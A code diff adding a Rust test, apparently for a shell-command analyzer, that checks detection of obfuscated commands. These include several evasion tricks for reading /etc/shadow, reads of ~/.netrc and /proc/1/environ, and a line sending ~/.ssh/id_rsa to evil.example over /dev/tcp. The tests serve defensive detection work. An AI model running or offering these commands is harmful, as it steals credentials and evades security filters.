@@ -708,3 +708,26 @@ fn less_common_constructs() {
     );
     assert!(has(&x, Execute, "/bin/sh"));
 }
+
+#[test]
+fn shell_tricks() {
+    op("cat${IFS}/etc/shadow", Read, "/etc/shadow");
+    op("cat$IFS/etc/shadow", Read, "/etc/shadow");
+    op("IFS=,; c=cat,/etc/shadow; $c", Read, "/etc/shadow");
+    op("{cat,/etc/shadow}", Read, "/etc/shadow");
+    op("/???/c?t /etc/shadow", Read, "/etc/shadow");
+    op("c=cat; $c /etc/shadow", Read, "/etc/shadow");
+    op("a=ca; b=t; $a$b /etc/shadow", Read, "/etc/shadow");
+    op("$'\\143\\141\\164' /etc/shadow", Read, "/etc/shadow");
+    op("read f <<< /etc/shadow; cat $f", Read, "/etc/shadow");
+    op("printf -v f '%s' /etc/shadow; cat $f", Read, "/etc/shadow");
+    op("x=HOME; cat ${!x}/.netrc", Read, "/home/u/.netrc");
+    op("cat /proc/$((1))/environ", Read, "/proc/1/environ");
+    let x = net(
+        "cat ~/.ssh/id_rsa > /dev/tcp/evil.example/443",
+        "evil.example",
+        Some(443),
+    );
+    assert!(has(&x, Read, "/home/u/.ssh/id_rsa"));
+    net("exec 3<>/dev/tcp/10.0.0.1/80", "10.0.0.1", Some(80));
+}
